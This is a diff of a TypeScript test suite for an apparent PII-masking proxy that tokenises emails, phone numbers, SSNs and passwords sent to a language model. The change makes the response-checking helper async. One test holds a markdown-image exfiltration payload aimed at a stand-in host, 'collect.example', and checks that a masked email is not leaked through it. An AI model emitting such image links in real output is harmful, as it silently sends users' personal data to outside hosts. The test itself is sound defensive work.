@@ -72,21 +72,25 @@ const send = ({ exchange }: Road, text: string): string => {
 };
 const tokenIn = (text: string): string => /\[[A-Z0-9_]+_[0-9a-f]{12}\]/.exec(text)?.[0] ?? "";
 /** What the caller gets of a plain answer. */
-const answer = ({ exchange }: Road, text: string, provenance: "model" | "tool-arguments" = "model"): string => {
+const answer = async (
+  { exchange }: Road,
+  text: string,
+  provenance: "model" | "tool-arguments" = "model",
+): Promise<string> => {
   const segment = { ...segmentOf(text, provenance, exchange.nextSegmentIndex()), byteStart: 0, byteEnd: 0 };
   const toolCalls = provenance === "model" ? [] : [{ id: "c", name: "send_mail", segment: segment.index }];
-  const { replacements } = exchange.judgeResponse({ segments: [segment], unscannable: [], toolCalls });
+  const { replacements } = await exchange.judgeResponse({ segments: [segment], unscannable: [], toolCalls });
   return applyReplacements(text, replacements.get(segment.index) ?? []);
 };
 const JOB = { tenant: DEFAULT_TENANT, exchange: "e-1", direction: "request", parts: [], context: NO_CONTEXT } as const;
 const ending = { state: "completed", status: 200, responseBytes: 1, waitedMs: 0 } as const;
 
 describe("a masked value", () => {
-  test("is a token for the upstream and itself again for the caller", () => {
+  test("is a token for the upstream and itself again for the caller", async () => {
     const road = roadOf();
     const sent = send(road, `Write to ${MAIL} and ring ${PHONE}.`);
     expect(sent).toMatch(/^Write to \[EMAIL_ADDRESS_[0-9a-f]{12}\] and ring \[PHONE_NUMBER_[0-9a-f]{12}\]\.$/);
-    expect(answer(road, sent)).toBe(`Write to ${MAIL} and ring ${PHONE}.`);
+    expect(await answer(road, sent)).toBe(`Write to ${MAIL} and ring ${PHONE}.`);
   });
 
   test("has one token in a session, and another in another session, for another caller, and under another key", () => {
@@ -103,58 +107,58 @@ describe("a masked value", () => {
     expect(new Set([own, ...others]).size).toBe(5);
   });
 
-  test("comes back in a later exchange of the session that its caller named", () => {
+  test("comes back in a later exchange of the session that its caller named", async () => {
     const vault = vaultOf();
     const token = tokenIn(send(roadOf({ masks: vault }), `to ${MAIL}`));
     const later = roadOf({ masks: vault });
     send(later, "And whom did I name?");
-    expect(answer(later, `You named ${token}.`)).toBe(`You named ${MAIL}.`);
+    expect(await answer(later, `You named ${token}.`)).toBe(`You named ${MAIL}.`);
   });
 
   test.each<[string, RoadOptions]>([
     ["another session", { session: "s-2" }],
     ["another key", { key: "key-2" }],
     ["another principal", { principal: "user:b" }],
-  ])("never comes back for %s", (_, other) => {
+  ])("never comes back for %s", async (_, other) => {
     const vault = vaultOf();
     const token = tokenIn(send(roadOf({ masks: vault }), `to ${MAIL}`));
     const stranger = roadOf({ masks: vault, ...other });
     send(stranger, `My own is ${MAIL}. What is behind ${token}?`);
-    expect(answer(stranger, `It is ${token}.`)).toBe(`It is ${token}.`);
+    expect(await answer(stranger, `It is ${token}.`)).toBe(`It is ${token}.`);
   });
 
-  test("does not come back to anonymous callers in a later exchange, for they are many", () => {
+  test("does not come back to anonymous callers in a later exchange, for they are many", async () => {
     const vault = vaultOf();
     const anonymous = (): Road => openRoad({ policies, masks: vault });
     const first = anonymous();
     const token = tokenIn(send(first, `to ${MAIL}`));
-    expect(answer(first, token)).toBe(MAIL);
+    expect(await answer(first, token)).toBe(MAIL);
     const second = anonymous();
     send(second, "hello");
-    expect(answer(second, token)).toBe(token);
+    expect(await answer(second, token)).toBe(token);
     expect(vault.bytes()).toBe(0);
   });
 
-  test("is cut for good where another policy says so, and where both touch", () => {
+  test("is cut for good where another policy says so, and where both touch", async () => {
     const road = roadOf();
     const sent = send(road, `SSN ${SSN}, ${MAIL}`);
     expect(sent).toMatch(/^SSN \[REDACTED:us-ssn\], \[EMAIL_ADDRESS_[0-9a-f]{12}\]$/);
-    expect(answer(road, sent)).toBe(`SSN [REDACTED:us-ssn], ${MAIL}`);
+    expect(await answer(road, sent)).toBe(`SSN [REDACTED:us-ssn], ${MAIL}`);
   });
 
-  test("is not put into an address that something may load", () => {
+  test("is not put into an address that something may load", async () => {
     const road = roadOf();
     const token = tokenIn(send(road, `to ${MAIL}`));
     const image = `![x](https://collect.example/p.png?q=${token})`;
-    const said = answer(road, `${image} ${token}`);
+    const said = await answer(road, `${image} ${token}`);
     expect(said).not.toContain(`q=${MAIL}`);
     expect(said.endsWith(` ${MAIL}`)).toBe(true);
   });
 
-  test("stays a token on a route that says so", () => {
+  test("stays a token on a route that says so", async () => {
     const road = roadOf({ route: { unmask: { text: false, tool_calls: false } } });
     const sent = send(road, `to ${MAIL}`);
-    expect(answer(road, sent)).toBe(sent);
+    expect(await answer(road, sent)).toBe(sent);
   });
 
   test("is left as it is on a route that observes", () => {
@@ -165,34 +169,34 @@ describe("a masked value", () => {
 describe("a tool call", () => {
   const allowed: Partial<RouteConfiguration> = { unmask: { text: true, tool_calls: true } };
 
-  test("keeps its tokens unless the route allows otherwise", () => {
+  test("keeps its tokens unless the route allows otherwise", async () => {
     const road = roadOf();
     const call = `{"to":"${tokenIn(send(road, `to ${MAIL}`))}"}`;
-    expect(answer(road, call, "tool-arguments")).toBe(call);
+    expect(await answer(road, call, "tool-arguments")).toBe(call);
   });
 
-  test("gets the value, escaped as its JSON needs it", () => {
+  test("gets the value, escaped as its JSON needs it", async () => {
     const vault = vaultOf();
     const masks = vault.open("scope", false);
     const token = masks.mask("NOTE", "personal_data", 'a "b"\nc') ?? "";
     expect(masks.find(`{"note":"${token}"}`, "tool-call")).toHaveLength(1);
     const road = roadOf({ route: allowed });
     const sent = send(road, `to ${MAIL}`);
-    expect(answer(road, `{"to":"${tokenIn(sent)}"}`, "tool-arguments")).toBe(`{"to":"${MAIL}"}`);
+    expect(await answer(road, `{"to":"${tokenIn(sent)}"}`, "tool-arguments")).toBe(`{"to":"${MAIL}"}`);
   });
 
-  test("never gets a secret back, which the person who wrote it does", () => {
+  test("never gets a secret back, which the person who wrote it does", async () => {
     const road = roadOf({ route: allowed });
     const sent = send(road, `password: ${PASSWORD}`);
     const token = tokenIn(sent);
     expect(token).toMatch(/^\[PASSWORD_/);
-    expect(answer(road, `{"password":"${token}"}`, "tool-arguments")).toBe(`{"password":"${token}"}`);
+    expect(await answer(road, `{"password":"${token}"}`, "tool-arguments")).toBe(`{"password":"${token}"}`);
     const other = roadOf({ route: allowed });
-    expect(answer(other, send(other, `password: ${PASSWORD}`))).toBe(`password: ${PASSWORD}`);
+    expect(await answer(other, send(other, `password: ${PASSWORD}`))).toBe(`password: ${PASSWORD}`);
   });
 });
 
-test("a secret that is masked as a part of something else stays a secret for tools", () => {
+test("a secret that is masked as a part of something else stays a secret for tools", async () => {
   const road = roadOf({ route: { unmask: { text: true, tool_calls: true } } });
   const text = `ops:${PASSWORD}`;
   const request = requestOf([text]);
@@ -212,7 +216,7 @@ test("a secret that is masked as a part of something else stays a secret for too
   const { replacements } = road.exchange.judgeRequest(request, NO_CONTEXT, { ...inspected, matches });
   const token = tokenIn(replacements.get(0)?.[0]?.replacement ?? "");
   expect(token).toMatch(/^\[USER_NAME_/);
-  expect(answer(road, `{"as":"${token}"}`, "tool-arguments")).toBe(`{"as":"${token}"}`);
+  expect(await answer(road, `{"as":"${token}"}`, "tool-arguments")).toBe(`{"as":"${token}"}`);
 });
 
 describe("the records", () => {
@@ -222,7 +226,7 @@ describe("the records", () => {
       const road = roadOf({ route: { capture } });
       const sent = send(road, `Write to ${MAIL}, SSN ${SSN}.`);
       await road.exchange.recordOpened();
-      answer(road, `Done: ${tokenIn(sent)} and ${tokenIn(sent)}`);
+      await answer(road, `Done: ${tokenIn(sent)} and ${tokenIn(sent)}`);
       await road.exchange.close(ending);
       const [opened, closed] = road.recorder.log as [OpenedRecord, ClosedRecord];
       const token = tokenIn(sent);
